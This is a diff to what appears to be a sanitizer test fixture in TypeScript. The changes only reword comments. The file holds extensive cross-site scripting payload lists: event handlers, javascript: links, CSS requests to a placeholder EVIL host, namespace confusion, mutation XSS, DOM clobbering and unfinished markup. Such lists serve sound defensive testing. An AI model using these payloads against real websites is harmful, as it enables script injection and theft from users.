@@ -1,8 +1,8 @@
 import { CALL, FOREIGN } from './attempts.ts';
 
-// One on a line, which ⏎ breaks. Where nothing stops it, it calls RUN or asks for EVIL.
+// One payload per line; ⏎ stands for a line break. If nothing stops a payload, it calls RUN or requests EVIL.
 
-/** Elements and attributes that do something. */
+/** Elements and attributes with behaviour. */
 const HANDLERS = `
 <img src=x onerror=RUN>
 <img src=x: onerror="RUN">
@@ -87,7 +87,7 @@ const HANDLERS = `
 <x onfocus=RUN autofocus tabindex=1>x</x>
 <is-custom is=x onload=RUN>c</is-custom>`;
 
-/** Links and addresses in disguise. */
+/** Disguised links and addresses. */
 const ADDRESSES = `
 <a href="javascript:RUN">a</a>
 <a href=" javascript:RUN">a</a>
@@ -128,7 +128,7 @@ const ADDRESSES = `
 <q cite="javascript:RUN">q</q><blockquote cite="EVIL/cite">b</blockquote>
 <ins cite="javascript:RUN">i</ins><del cite="EVIL/del">d</del>`;
 
-/** Styles that read, draw over or ask for something. */
+/** Styles that read, cover or request something. */
 const STYLES = `
 <style>@import "EVIL/import";</style>
 <style>* { background: url(EVIL/all) }</style>
@@ -150,7 +150,7 @@ const STYLES = `
 <li style="list-style-image:url(EVIL/li)">l</li>
 <td style="background-image:image-set('EVIL/set' 1x)">c</td>`;
 
-/** Other namespaces, and what a parser makes of a mixture. */
+/** Other namespaces, and mixtures that confuse a parser. */
 const NAMESPACES = `
 <svg onload=RUN></svg>
 <svg><script>RUN</script></svg>
@@ -188,7 +188,7 @@ const NAMESPACES = `
 <table><td><math><style><img src=x onerror=RUN></style></math></td></table>
 <p><svg><p><img src=x onerror=RUN></p></svg></p>`;
 
-/** What changes its meaning when it is written out and parsed again, and containers of raw text. */
+/** Markup that changes its meaning after serialising and parsing, and containers of raw text. */
 const MUTATIONS = `
 <noscript><p title="</noscript><img src=x onerror=RUN>"></p></noscript>
 <noscript><style></noscript><img src=x onerror=RUN></style></noscript>
@@ -236,7 +236,7 @@ const MUTATIONS = `
 <ul><li><ul></li><img src=x onerror=RUN></ul>
 ${'<b>'.repeat(400)}<img src=x onerror=RUN>${'</b>'.repeat(400)}`;
 
-/** Names that the page's own code asks the document for. */
+/** Names that collide with properties that the page's code reads. */
 const CLOBBERING = `
 <form id=body name=body><input name=childNodes><input name=attributes></form>
 <form><input name=nodeType><input name=parentNode><input name=nodeName></form>
@@ -252,7 +252,7 @@ const CLOBBERING = `
 <iframe name=cabinetEarly srcdoc="<a id=config href='EVIL'></a>"></iframe>
 <object id=trustedTypes data=x></object>`;
 
-/** After one of these a parser takes everything for something else. */
+/** Unfinished markup, after which a parser misreads the rest. */
 const UNFINISHED = `
 <img src=x onerror=RUN
 <img src=x onerror=RUN//
@@ -287,7 +287,7 @@ function payloadsOf(block: string, first: number): string[] {
     );
 }
 
-/** Those that end where they end: each may be followed by something. */
+/** Complete payloads, which other markup may follow. */
 export const FINISHED_PAYLOADS = [HANDLERS, ADDRESSES, STYLES, NAMESPACES, MUTATIONS, CLOBBERING].flatMap(
   (block, index) => payloadsOf(block, 1000 * (index + 1)),
 );
